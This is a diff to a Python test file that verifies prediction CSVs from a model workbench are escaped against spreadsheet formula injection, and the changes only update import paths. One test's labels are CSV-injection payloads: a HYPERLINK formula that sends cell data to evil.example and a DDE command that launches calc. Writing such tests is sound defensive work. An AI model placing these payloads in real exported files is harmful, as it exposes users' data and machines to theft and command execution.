@@ -237,10 +237,10 @@ def test_the_workbench_reads_its_own_csv_back_exactly(tmp_path, wb):
 def test_a_real_model_trained_on_payload_labels_writes_them_escaped(tmp_path):
     """A tiny BERT really trained on labels that are formulas: its ``predicted_label`` cells are escaped,
     its probabilities are numbers."""
-    from jobs.engine import run_training
+    from jobs.training.engine import run_training
     from jobs.predict.job import run_prediction
     from jobs.predict.spec import ModelRef
-    from jobs.spec import DataSpec, RunSpec, TrainSpec
+    from jobs.specs.run import DataSpec, RunSpec, TrainSpec
     from tests.tiny_models import classification_records, tiny_bert, write_jsonl
 
     labels = {"pos": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "neg": "-2+3+cmd|' /C calc'!A0"}
@@ -277,12 +277,12 @@ def test_a_real_model_trained_on_payload_labels_writes_them_escaped(tmp_path):
 
 def test_the_cli_output_and_the_ui_download_are_escaped(cli, wb, tmp_path, monkeypatch):
     """``workbench predict --output`` copies the job's CSV and the Predict tab offers the same file: both escaped."""
-    import jobs.worker
+    import jobs.queue.worker
     from tests.predict_support import JobRunner, Jobs, trained_run
     from workbench.ui import predict_panel
 
-    real = jobs.worker.start_embedded_worker
-    monkeypatch.setattr(jobs.worker, "start_embedded_worker",
+    real = jobs.queue.worker.start_embedded_worker
+    monkeypatch.setattr(jobs.queue.worker, "start_embedded_worker",
                         lambda wb_, runner=None, **kw: real(wb_, JobRunner(wb_, Jobs()), **kw))
     source, expected = _input(tmp_path, "jsonl")
     target = tmp_path / "out" / "labelled.csv"
